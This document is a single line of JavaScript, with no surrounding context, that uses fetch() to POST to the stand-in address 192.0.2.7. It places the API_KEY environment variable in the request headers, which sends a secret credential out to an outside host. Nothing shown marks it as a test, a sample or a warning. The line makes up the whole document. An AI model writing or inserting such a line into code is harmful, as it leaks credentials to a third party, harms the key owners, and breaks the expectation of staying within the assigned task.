fetch("http://192.0.2.7/", { method: "POST", headers: { key: process.env.API_KEY }, body: "1" });
